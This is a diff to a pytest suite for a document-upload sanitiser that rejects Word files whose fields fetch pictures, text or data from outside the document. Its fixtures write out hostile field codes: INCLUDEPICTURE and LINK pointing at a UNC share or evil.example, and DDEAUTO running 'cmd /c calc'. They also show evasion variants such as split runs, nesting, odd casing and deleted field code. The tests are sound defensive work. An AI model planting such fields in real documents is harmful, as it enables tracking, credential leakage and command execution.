@@ -305,11 +305,101 @@ def test_a_word_document_whose_links_part_is_not_plain_xml_is_refused_as_damaged
     assert "is damaged" in refused.value.message
 
 
+def _runs(*pieces: str) -> str:
+    """Runs of a complex field: "begin", "separate" and "end" name a ``w:fldChar``, anything
+    else is a piece of field code, each in a run of its own as Word splits them."""
+    runs = []
+    for piece in pieces:
+        if piece in ("begin", "separate", "end"):
+            runs.append(f'<w:r><w:fldChar w:fldCharType="{piece}"/></w:r>')
+        else:
+            runs.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
+    return "".join(runs)
+
+
+def _with_fields(xml: str, part: str = "word/document.xml") -> dict[str, str]:
+    root = "w:hdr" if "header" in part else "w:document"
+    inner = f"<w:p>{xml}</w:p>" if "header" in part else f"<w:body><w:p>{xml}</w:p></w:body>"
+    return {part: f'<{root} xmlns:w="{W}">{inner}</{root}>'}
+
+
+# Word doubles each backslash in a field code.
+SHARE = r"\\\\fileserver.evil.example\\share\\logo.png"
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        _with_fields(_runs("begin", f' INCLUDEPICTURE "{SHARE}" \\d ', "separate", "end")),
+        _with_fields(_runs("begin", " INCLUDE", 'PICTURE "https://evil.example/p" ', "end")),
+        _with_fields(_runs("begin", ' includetext "https://evil.example/t.docx" ', "end")),
+        _with_fields(_runs("begin", " Dde", "Auto ", 'cmd "/c calc" ', "separate", "end")),
+        _with_fields(
+            _runs("begin", ' IF 1 = 1 "', "begin", ' INCLUDEPICTURE "https://evil.example/p" ')
+            + _runs("separate", "end", '" "" ', "separate", "end")
+        ),
+        _with_fields(
+            _runs("begin", "begin", " QUOTE 68 68 69 ", "separate", "end")
+            + _runs(' cmd "/c calc" ', "separate", "end")
+        ),
+        _with_fields(
+            f'<w:fldSimple w:instr=" LINK Excel.Sheet.12 &quot;{SHARE}&quot; Sheet1 \\a "/>'
+        ),
+        _with_fields(_runs("begin", f' INCLUDEPICTURE "{SHARE}" ', "end"), "word/header1.xml"),
+        _with_fields(_runs("begin", ' DATABASE \\c "DSN=evil" ', "end"), "word/footnotes.xml"),
+        _with_fields(_runs("begin", ' LINK "https://evil.example/x" ', "end"), "word/header2.bin"),
+        _with_fields(
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del><w:r><w:delInstrText>'
+            ' IMPORT "https://evil.example/p.wmf" </w:delInstrText></w:r></w:del>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        ),
+    ],
+    ids=[
+        "a picture from a network share",
+        "split across runs",
+        "lower case",
+        "mixed case split inside its name",
+        "nested in another field",
+        "its name made by a nested field",
+        "a simple field",
+        "in a header",
+        "in the footnotes",
+        "in a part not named .xml",
+        "in deleted field code",
+    ],
+)
+@pytest.mark.parametrize("keep_original", [False, True])
+def test_a_word_document_with_a_field_that_fetches_from_outside_is_refused(
+    extra: dict[str, str], keep_original: bool
+) -> None:
+    with pytest.raises(AttachmentRejected) as refused:
+        clean_upload("rota.docx", word_document(**extra), keep_original=keep_original)
+    assert refused.value.message == (
+        "‘rota.docx’ contains a field that fetches a picture, text or data from outside the "
+        "document when Word updates it, which could tell someone else when the team opens it. "
+        "Save it as PDF and upload that."
+    )
+
+
+def test_a_word_document_with_everyday_fields_is_cleaned() -> None:
+    fields = (
+        _runs("begin", " PAGE ", "separate", "end")
+        + _runs("begin", ' HYPERLINK "https://www.gov.uk/" ', "separate", "end")
+        + _runs("begin", " IF ", "begin", " PAGE ", "separate", "end", ' = 1 "first" ', "end")
+        + _runs("begin", " REF Include_dates \\h ", "separate", "end")
+        + '<w:fldSimple w:instr=" DATE \\@ &quot;d MMMM yyyy&quot; "/>'
+    )
+    cleaned = clean_upload("rota.docx", word_document(**_with_fields(fields)))
+    assert b"HYPERLINK" in unpacked(cleaned.data)["word/document.xml"]
+
+
 @pytest.mark.parametrize("opening", ["<w:rsids>", "<w15:docId "], ids=["rsid table", "docId"])
 def test_a_word_document_of_thousands_of_unclosed_tags_is_cleaned_in_moments(opening: str) -> None:
     """Each unclosed tag once made the cleaner search the rest of the part for its end: 20,000
-    of them (a 2 KB upload) took seconds, a 1 MB part a quarter of an hour."""
-    body = f'<w:document xmlns:w="{W}"><w:body>{opening * 20_000}</w:body></w:document>'
+    of them (a 2 KB upload) took seconds, a 1 MB part a quarter of an hour. They are in a CDATA
+    section, where they are text, since a part that is not well-formed XML is refused."""
+    tags = f"<![CDATA[{opening * 20_000}]]>"
+    body = f'<w:document xmlns:w="{W}"><w:body>{tags}</w:body></w:document>'
     document = word_document(**{"word/document.xml": body})
     assert len(document) < 5_000
     started = time.process_time()
